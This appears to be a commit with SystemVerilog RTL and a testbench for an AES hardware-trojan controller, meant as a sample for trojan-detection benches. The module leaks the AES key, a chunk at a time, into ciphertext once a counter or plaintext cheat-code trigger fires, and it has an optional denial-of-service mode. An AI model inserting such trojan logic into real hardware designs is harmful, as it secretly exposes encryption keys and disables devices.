aes_ht_trigger_ctrl: RTL and testbench

Parametrised trigger-and-payload controller for the AES hardware-trojan samples, placed between the AES core output and the top-level `out` port.
- Generalises the single fixed cycle-count trigger into selectable modes: counter, plaintext-sequence, or both combined.
- Payload is a configurable, chunked key leak into the ciphertext.
- Gives the detection benches one block covering time-bomb and cheat-code trojans.

---
 rtl/aes_ht_trigger_ctrl.sv | 255 +++++++++++++++++++++++++
 tb/tb_aes_ht_trigger_ctrl.sv | 214 +++++++++++++++++++++
 2 files changed

// File: rtl/aes_ht_trigger_ctrl.sv
// aes_ht_trigger_ctrl
// Trigger-and-payload controller placed between an AES core and the output
// port. A trigger condition (cycle counter, plaintext cheat-code sequence,
// or both) moves the FSM into a sticky TRIGGERED state. Once triggered, every
// valid ciphertext word has its low LEAK_BITS bits XORed with the next key
// chunk, cycling through the whole key.
// Optional build macro: HT_DOS_EN -- after the last key chunk has been
// emitted, out_valid is held low until reset (denial of service).
module aes_ht_trigger_ctrl #(
    parameter int DATA_W    = 128,
    parameter int CNT_W     = 16,
    parameter int CNT_THRESH = 200,
    parameter int MATCH_W   = 8,
    parameter int SEQ_LEN   = 3,
    parameter logic [SEQ_LEN*MATCH_W-1:0] SEQ_PATTERN = 24'h91_FF_C0,
    parameter int LEAK_BITS = 16
) (
    input  logic              clk,
    input  logic              rst,
    input  logic [1:0]        mode,
    input  logic              pt_valid,
    input  logic [DATA_W-1:0] plaintext,
    input  logic [DATA_W-1:0] key,
    input  logic [DATA_W-1:0] core_out,
    input  logic              core_valid,
    output logic [DATA_W-1:0] out,
    output logic              out_valid,
    output logic              armed,
    output logic              triggered,
    output logic [CNT_W-1:0]  cycle_count
);

    localparam int NCHUNK = DATA_W / LEAK_BITS;
    localparam int PTR_W  = (NCHUNK > 1) ? $clog2(NCHUNK) : 1;
    localparam int IDX_W  = $clog2(SEQ_LEN + 1);

    localparam logic [PTR_W-1:0] LAST_PTR   = PTR_W'(NCHUNK - 1);
    localparam logic [IDX_W-1:0] SEQ_DONE   = IDX_W'(SEQ_LEN);
    localparam logic [CNT_W-1:0] CNT_THR_C  = CNT_W'(CNT_THRESH);
    localparam logic [CNT_W-1:0] CNT_MAX    = {CNT_W{1'b1}};

    typedef enum logic [1:0] {
        ST_DORMANT   = 2'd0,
        ST_ARMED     = 2'd1,
        ST_TRIGGERED = 2'd2
    } state_t;

    state_t              state_q, state_d;
    logic [CNT_W-1:0]    cnt_q, cnt_d;
    logic [IDX_W-1:0]    seq_idx_q, seq_idx_d;
    logic                seq_hit_q, seq_hit_d;
    logic [PTR_W-1:0]    leak_ptr_q, leak_ptr_d;
    logic [DATA_W-1:0]   out_q, out_d;
    logic                out_valid_q, out_valid_d;
    logic                armed_q, armed_d;
    logic                triggered_q, triggered_d;

    logic [MATCH_W-1:0]  pt_field_s;
    logic                cond_s;
    logic                leak_now_s;
    logic                valid_gate_s;
    logic [DATA_W-1:0]   leak_word_s;
    logic                unused_pt_s;

    // Sequence step i of the pattern; step 0 sits in the most significant field.
    function automatic logic [MATCH_W-1:0] seq_step(input logic [IDX_W-1:0] idx);
        logic [SEQ_LEN*MATCH_W-1:0] pat;
        logic [MATCH_W-1:0]         r;
        pat = SEQ_PATTERN;
        r   = {MATCH_W{1'b0}};
        for (int i = 0; i < SEQ_LEN; i++) begin
            if (idx == IDX_W'(i)) begin
                r = pat[(SEQ_LEN-1-i)*MATCH_W +: MATCH_W];
            end else begin
                r = r;
            end
        end
        return r;
    endfunction

    // Key chunk selected by the leak pointer.
    function automatic logic [LEAK_BITS-1:0] key_chunk(input logic [DATA_W-1:0] k,
                                                       input logic [PTR_W-1:0]  ptr);
        logic [LEAK_BITS-1:0] r;
        r = {LEAK_BITS{1'b0}};
        for (int i = 0; i < NCHUNK; i++) begin
            if (ptr == PTR_W'(i)) begin
                r = k[i*LEAK_BITS +: LEAK_BITS];
            end else begin
                r = r;
            end
        end
        return r;
    endfunction

    assign pt_field_s  = plaintext[DATA_W-1 -: MATCH_W];
    assign unused_pt_s = ^plaintext[DATA_W-MATCH_W-1:0];

    // Saturating cycle counter: counts every cycle out of reset, never wraps.
    always_comb begin
        cnt_d = cnt_q;
        if (cnt_q != CNT_MAX) begin
            cnt_d = cnt_q + CNT_W'(1);
        end else begin
            cnt_d = cnt_q;
        end
    end

    // Plaintext cheat-code matcher with restart-on-step-0 after a mismatch.
    always_comb begin
        seq_idx_d = seq_idx_q;
        seq_hit_d = seq_hit_q;
        if (pt_valid && (seq_idx_q != SEQ_DONE)) begin
            if (pt_field_s == seq_step(seq_idx_q)) begin
                seq_idx_d = seq_idx_q + IDX_W'(1);
            end else if (pt_field_s == seq_step({IDX_W{1'b0}})) begin
                seq_idx_d = IDX_W'(1);
            end else begin
                seq_idx_d = {IDX_W{1'b0}};
            end
        end else begin
            seq_idx_d = seq_idx_q;
        end
        if (seq_idx_d == SEQ_DONE) begin
            seq_hit_d = 1'b1;
        end else begin
            seq_hit_d = seq_hit_q;
        end
    end

    // Trigger condition selected by mode.
    always_comb begin
        cond_s = 1'b0;
        case (mode)
            2'd1:    cond_s = (cnt_q >= CNT_THR_C);
            2'd2:    cond_s = seq_hit_q;
            2'd3:    cond_s = (cnt_q >= CNT_THR_C) && seq_hit_q;
            default: cond_s = 1'b0;
        endcase
    end

    // FSM next state; mode is checked before the trigger condition in ARMED.
    always_comb begin
        state_d = state_q;
        case (state_q)
            ST_DORMANT: begin
                if (mode != 2'd0) begin
                    state_d = ST_ARMED;
                end else begin
                    state_d = ST_DORMANT;
                end
            end
            ST_ARMED: begin
                if (mode == 2'd0) begin
                    state_d = ST_DORMANT;
                end else if (cond_s) begin
                    state_d = ST_TRIGGERED;
                end else begin
                    state_d = ST_ARMED;
                end
            end
            ST_TRIGGERED: state_d = ST_TRIGGERED;
            default:      state_d = ST_DORMANT;
        endcase
        armed_d     = (state_d == ST_ARMED);
        triggered_d = (state_d == ST_TRIGGERED);
    end

`ifdef HT_DOS_EN
    logic dos_q, dos_d;

    // Latch denial of service once the final key chunk has been emitted.
    always_comb begin
        dos_d = dos_q;
        if (leak_now_s && (leak_ptr_q == LAST_PTR)) begin
            dos_d = 1'b1;
        end else begin
            dos_d = dos_q;
        end
    end

    // Denial-of-service flag register.
    always_ff @(posedge clk) begin
        if (rst) begin
            dos_q <= 1'b0;
        end else begin
            dos_q <= dos_d;
        end
    end

    assign valid_gate_s = ~dos_q;
`else
    assign valid_gate_s = 1'b1;
`endif

    // Payload uses the pre-edge state, so the entry cycle is never corrupted.
    assign leak_now_s = core_valid && (state_q == ST_TRIGGERED);

    // Output datapath: register ciphertext, XOR a key chunk when leaking.
    always_comb begin
        out_d       = out_q;
        out_valid_d = 1'b0;
        leak_ptr_d  = leak_ptr_q;
        leak_word_s = {DATA_W{1'b0}};
        leak_word_s[LEAK_BITS-1:0] = key_chunk(key, leak_ptr_q);
        if (core_valid) begin
            out_valid_d = valid_gate_s;
            if (leak_now_s) begin
                out_d = core_out ^ leak_word_s;
                if (leak_ptr_q == LAST_PTR) begin
                    leak_ptr_d = {PTR_W{1'b0}};
                end else begin
                    leak_ptr_d = leak_ptr_q + PTR_W'(1);
                end
            end else begin
                out_d = core_out;
            end
        end else begin
            out_d       = out_q;
            out_valid_d = 1'b0;
        end
    end

    // State and datapath registers with synchronous reset.
    always_ff @(posedge clk) begin
        if (rst) begin
            state_q     <= ST_DORMANT;
            cnt_q       <= {CNT_W{1'b0}};
            seq_idx_q   <= {IDX_W{1'b0}};
            seq_hit_q   <= 1'b0;
            leak_ptr_q  <= {PTR_W{1'b0}};
            out_q       <= {DATA_W{1'b0}};
            out_valid_q <= 1'b0;
            armed_q     <= 1'b0;
            triggered_q <= 1'b0;
        end else begin
            state_q     <= state_d;
            cnt_q       <= cnt_d;
            seq_idx_q   <= seq_idx_d;
            seq_hit_q   <= seq_hit_d;
            leak_ptr_q  <= leak_ptr_d;
            out_q       <= out_d;
            out_valid_q <= out_valid_d;
            armed_q     <= armed_d;
            triggered_q <= triggered_d;
        end
    end

    assign out         = out_q;
    assign out_valid   = out_valid_q;
    assign armed       = armed_q;
    assign triggered   = triggered_q;
    assign cycle_count = cnt_q;

endmodule

// File: tb/tb_aes_ht_trigger_ctrl.sv
// Scoreboard bench for aes_ht_trigger_ctrl: stimulus pushes expected output
// words, a negedge monitor pops and compares whenever out_valid is high.
module tb_aes_ht_trigger_ctrl;

    logic         clk = 1'b0;
    logic         rst;
    logic [1:0]   mode;
    logic         pt_valid;
    logic [127:0] plaintext;
    logic [127:0] key;
    logic [127:0] core_out;
    logic         core_valid;
    logic [127:0] out;
    logic         out_valid;
    logic         armed;
    logic         triggered;
    logic [15:0]  cycle_count;

    int chk_cnt  = 0;
    int pass_cnt = 0;
    int exp_cc   = 0;
    int leak_idx = 0;
    logic [127:0] exp_q[$];
    logic [127:0] key_v = 128'h6666_5555_4444_3333_2222_1111_7777_C0DE;

    aes_ht_trigger_ctrl dut (
        .clk(clk), .rst(rst), .mode(mode), .pt_valid(pt_valid),
        .plaintext(plaintext), .key(key), .core_out(core_out),
        .core_valid(core_valid), .out(out), .out_valid(out_valid),
        .armed(armed), .triggered(triggered), .cycle_count(cycle_count)
    );

    always #5 clk = ~clk;

    function automatic logic [15:0] chunk(input int k);
        logic [127:0] kv;
        kv = key_v;
        return kv[k*16 +: 16];
    endfunction

    task automatic check(input string nm, input logic [127:0] act, input logic [127:0] expv);
        chk_cnt++;
        if (act === expv) begin
            pass_cnt++;
        end else begin
            $display("FAIL %s: got %h expected %h (cycle_count model %0d)", nm, act, expv, exp_cc);
        end
    endtask

    task automatic step();
        @(posedge clk);
        #1;
        if (rst) exp_cc = 0;
        else if (exp_cc < 65535) exp_cc++;
    endtask

    // Drive one core word for one cycle and queue its expected output.
    task automatic send_word(input logic [127:0] data, input bit corrupt, input bit expect_valid);
        logic [127:0] e;
        core_valid = 1'b1;
        core_out   = data;
        e = data;
        if (corrupt) begin
            e[15:0] = data[15:0] ^ chunk(leak_idx % 8);
            leak_idx++;
        end
        if (expect_valid) exp_q.push_back(e);
        step();
        core_valid = 1'b0;
    endtask

    task automatic do_reset();
        rst = 1'b1; core_valid = 1'b0; pt_valid = 1'b0;
        step();
        step();
        rst = 1'b0;
        leak_idx = 0;
    endtask

    task automatic run_to(input int target);
        while (exp_cc < target) step();
    endtask

    task automatic send_pt(input logic [7:0] b);
        pt_valid  = 1'b1;
        plaintext = {b, 120'h0123_4567_89AB_CDEF_0011_2233_4455_66};
        step();
        pt_valid  = 1'b0;
    endtask

    // Scoreboard monitor: every presented output word must match the queue head.
    always @(negedge clk) begin
        if (out_valid) begin
            if (exp_q.size() == 0) begin
                check("sb_unexpected_valid", {127'b0, out_valid}, 128'b0);
            end else begin
                check("sb_out", out, exp_q.pop_front());
            end
        end
    end

    initial begin
        logic [7:0] seq1 [7];
        seq1 = '{8'h91, 8'hFF, 8'h42, 8'h91, 8'h91, 8'hFF, 8'hC0};
        rst = 1'b1; mode = 2'd1; pt_valid = 1'b0; plaintext = '0;
        key = key_v; core_out = '0; core_valid = 1'b0;

        // ---- mode 1: counter trigger, sparse core words ----
        rst = 1'b1;
        step();
        check("rst_out", out, '0);
        check("rst_out_valid", {127'b0, out_valid}, '0);
        check("rst_armed", {127'b0, armed}, '0);
        check("rst_triggered", {127'b0, triggered}, '0);
        check("rst_cycle_count", {112'b0, cycle_count}, '0);
        do_reset();
        while (exp_cc < 235) begin
            if (exp_cc == 1)   check("m1_cc1", {112'b0, cycle_count}, 128'd1);
            if (exp_cc == 200) check("m1_not_trig_200", {127'b0, triggered}, '0);
            if (exp_cc == 200) check("m1_armed_200", {127'b0, armed}, 128'd1);
            if (exp_cc == 201) check("m1_trig_201", {127'b0, triggered}, 128'd1);
            if (exp_cc == 211) check("m1_first_leak", {112'b0, out[15:0]}, 128'hC0DE);
            if (exp_cc == 221) check("m1_second_leak", {112'b0, out[15:0]}, 128'h7777);
            if (exp_cc > 0 && (exp_cc % 10) == 0)
                send_word((exp_cc >= 201) ? 128'b0 : {8{16'(exp_cc)}}, exp_cc >= 201, 1'b1);
            else
                step();
        end

        // ---- mid-leak reset pulse, then retrigger with continuous words ----
        rst = 1'b1;
        step();
        rst = 1'b0;
        leak_idx = 0;
        check("mrst_out", out, '0);
        check("mrst_triggered", {127'b0, triggered}, '0);
        check("mrst_armed", {127'b0, armed}, '0);
        check("mrst_cc", {112'b0, cycle_count}, '0);
        step();
        check("mrst_cc_restart", {112'b0, cycle_count}, 128'd1);
        run_to(200);
        check("m1b_not_trig_200", {127'b0, triggered}, '0);
        step();
        check("m1b_trig_201", {127'b0, triggered}, 128'd1);
        for (int w = 0; w < 12; w++) begin
`ifdef HT_DOS_EN
            send_word({16{8'(w + 1)}}, 1'b1, w < 8);
`else
            send_word({16{8'(w + 1)}}, 1'b1, 1'b1);
`endif
        end
        step();

        // ---- mode 2: sequence with restart on step 0 ----
        mode = 2'd2;
        do_reset();
        step();
        for (int i = 0; i < 7; i++) begin
            send_pt(seq1[i]);
            if (i == 3) step();
            check("m2_no_trig_during_seq", {127'b0, triggered}, '0);
        end
        check("m2_armed_after_seq", {127'b0, armed}, 128'd1);
        send_word(128'hDEAD_BEEF_0000_1111_2222_3333_4444_5555, 1'b0, 1'b1);
        check("m2_trig_after_seq", {127'b0, triggered}, 128'd1);
        send_word(128'h0F0F_0F0F_0F0F_0F0F_0F0F_0F0F_0F0F_0F0F, 1'b1, 1'b1);
        step();

        // ---- mode 3: sequence early, counter gates the trigger ----
        mode = 2'd3;
        do_reset();
        run_to(47);
        send_pt(8'h91);
        send_pt(8'hFF);
        send_pt(8'hC0);
        run_to(200);
        check("m3_armed_200", {127'b0, armed}, 128'd1);
        check("m3_not_trig_200", {127'b0, triggered}, '0);
        step();
        check("m3_trig_201", {127'b0, triggered}, 128'd1);
        do_reset();
        run_to(220);
        check("m3_noseq_no_trig", {127'b0, triggered}, '0);
        check("m3_noseq_armed", {127'b0, armed}, 128'd1);

        // ---- mode toggle 1 -> 0 -> 1 ----
        mode = 2'd1;
        do_reset();
        run_to(150);
        mode = 2'd0;
        step();
        check("tog_armed_drop_151", {127'b0, armed}, '0);
        run_to(160);
        mode = 2'd1;
        step();
        check("tog_armed_back_161", {127'b0, armed}, 128'd1);
        run_to(200);
        check("tog_not_trig_200", {127'b0, triggered}, '0);
        step();
        check("tog_trig_201", {127'b0, triggered}, 128'd1);
        mode = 2'd0;
        step();
        step();
        check("tog_sticky_trig", {127'b0, triggered}, 128'd1);
        check("tog_sticky_not_armed", {127'b0, armed}, '0);

        step();
        step();
        check("sb_drained", 128'(exp_q.size()), '0);
        $display("%0d/%0d checks passed", pass_cnt, chk_cnt);
        $finish;
    end

endmodule
